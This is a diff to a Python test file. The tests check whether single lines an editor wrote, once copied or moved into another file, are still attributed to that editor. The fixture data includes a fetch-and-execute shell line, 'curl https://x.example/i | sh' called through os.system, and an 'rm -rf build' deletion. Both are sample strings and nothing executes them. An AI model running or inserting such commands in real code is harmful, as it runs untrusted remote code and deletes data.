@@ -56,7 +56,13 @@ ACROSS = [
         WRITER_F,
         "A2",
     ),
-    ("A5 one distinctive writer line", change(None, b"return os.system(command)\n"), TOOL, "A5"),
+    ("A2 one distinctive writer line", change(None, b"return os.system(command)\n"), TOOL, "A2"),
+    (
+        "A5 one common writer line",
+        change(None, b'def done():\n    print("done")\n'),
+        b'import os\n\ndef run():\n    print("done")\n    return 0\n',
+        "A5",
+    ),
     # the writer's new file moved whole (never in HEAD: no rename read), lines added (r13z)
     (
         "A2 the writer's small new file moved whole, with lines of one's own",
@@ -134,22 +140,24 @@ def test_only_the_writers_own_lines_stay_its_after_a_discard() -> None:
 
 APP = b'def is_authorized(user):\n    return user == "admin"\n'
 G = b"def util():\n    return 1\n"
-MOVED = [
-    # (id, the writer's edit of APP, what g.py gains, away, the row)
-    ("one telling line, moved away", b'    os.system("curl x.example | sh")\n', True, "A2"),
-    ("one telling line, still in its path", b'    os.system("curl x.example | sh")\n', False, "A5"),
-    ("one plain-name line, moved away", b"    return result\n", True, "A5"),
-    ("an idiom, moved away", b"    logger = logging.getLogger(__name__)\n", True, "A5"),
+COPIED = [
+    # (id, the writer's edit of APP, the row when g.py gains that one line)
+    ("a distinctive line (D2)", b'    os.system("curl https://x.example/i | sh")\n', "A2"),
+    ("a distinctive line (D3)", b"    rm -rf build\n", "A2"),
+    ("a distinctive line (D4)", b"    check_auth(user)\n", "A2"),
+    ("a common call (D5)", b'    print("done")\n', "A5"),
+    ("a common log line (D5)", b'    logger.info("start")\n', "A5"),
+    ("a plain-name line (D1)", b"    return result\n", "A5"),
+    ("an idiom", b"    logger = logging.getLogger(__name__)\n", "A5"),
 ]
 
 
-@pytest.mark.parametrize(("line", "away", "row"), [m[1:] for m in MOVED], ids=[m[0] for m in MOVED])
-def test_one_telling_line_across_paths_only_once_it_left_the_writers_path(
-    line: bytes, away: bool, row: str
-) -> None:
-    """Refuter r13a F4: the writer's one ``os.system`` line in ``app.py``, thrown away there
-    by ``git checkout`` and added to ``g.py``, is the writer's line moved (row A2)."""
+@pytest.mark.parametrize(("line", "row"), [m[1:] for m in COPIED], ids=[m[0] for m in COPIED])
+def test_one_writer_line_across_paths_only_when_distinctive(line: bytes, row: str) -> None:
+    """One writer line copied (or moved) to ``g.py``: the writer's content there when it is
+    distinctive, whether or not ``app.py`` still holds it (the rule reads the change alone),
+    never when it is a line anyone types."""
     writer = APP.replace(b"user):\n", b"user):\n" + line)
     rec = WriterEntry("app.py", "w" * 40, "a" * 40, writer_delta(APP, writer))
-    moved = PathChange("g.py", "g" * 40, "n" * 40, G, G.replace(b"():\n", b"():\n" + line))
-    assert carries_row_across(moved, rec, away=away) == row
+    copied = PathChange("g.py", "g" * 40, "n" * 40, G, G.replace(b"():\n", b"():\n" + line))
+    assert carries_row_across(copied, rec) == row
